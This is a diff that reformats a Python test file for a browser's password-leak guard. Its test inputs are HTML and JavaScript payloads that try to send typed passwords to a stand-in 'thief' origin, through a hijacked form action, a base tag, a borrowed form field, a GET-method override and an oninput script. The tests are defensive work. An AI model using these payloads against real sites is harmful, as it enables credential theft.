@@ -83,7 +83,11 @@ async def test_the_page_hears_of_it(window: PortalBrowser, pages: Pages) -> None
 
 ATTACKS = {
     "get": ("<form>{held}</form>", "", UnsafeForm),
-    "method of the button": ("<form method=post>{held}<button formmethod=get>x</button></form>", "", UnsafeForm),
+    "method of the button": (
+        "<form method=post>{held}<button formmethod=get>x</button></form>",
+        "",
+        UnsafeForm,
+    ),
     "action": ("<form method=post action='{thief}'>{held}</form>", "", OriginRefused),
     "action under a field's name": (
         "<form method=post action='{thief}'><input name=action value='/'>{held}</form>",
@@ -96,8 +100,16 @@ ATTACKS = {
         OriginRefused,
     ),
     "base": ("<form method=post action='x'>{held}</form>", "<base href='{thief}'>", OriginRefused),
-    "field of another form": ("<form id=f method=post action='{thief}'></form><input form=f data-is=it>", "", OriginRefused),
-    "too short": ("<form method=post><input type=password maxlength=8 data-is=it></form>", "", FieldTooShort),
+    "field of another form": (
+        "<form id=f method=post action='{thief}'></form><input form=f data-is=it>",
+        "",
+        OriginRefused,
+    ),
+    "too short": (
+        "<form method=post><input type=password maxlength=8 data-is=it></form>",
+        "",
+        FieldTooShort,
+    ),
 }
 
 
@@ -158,7 +170,7 @@ async def test_nothing_leaves_for_another_origin(
     """Whatever the page does with what is typed."""
     thief.asked.clear()
     script = f"const v = this.value, u = '{thief.origin}/?' + encodeURIComponent(v); {LEAKS[name]}"
-    held = f"<input type=password data-is=it oninput=\"{script}\">"
+    held = f'<input type=password data-is=it oninput="{script}">'
     pages.at["/"] = f"<!doctype html><body><form method=post>{held}</form>"
     await window.goto(f"{pages.origin}/")
     async with window.on("Authentification"), window.guarded():
@@ -168,9 +180,7 @@ async def test_nothing_leaves_for_another_origin(
 
 
 @here
-async def test_the_guard_is_not_blind(
-    window: PortalBrowser, pages: Pages, thief: Pages
-) -> None:
+async def test_the_guard_is_not_blind(window: PortalBrowser, pages: Pages, thief: Pages) -> None:
     """The same page reaches the other origin when no secret stands in it."""
     thief.asked.clear()
     pages.at["/"] = f"<body><script>new Image().src = '{thief.origin}/?seen'</script>"
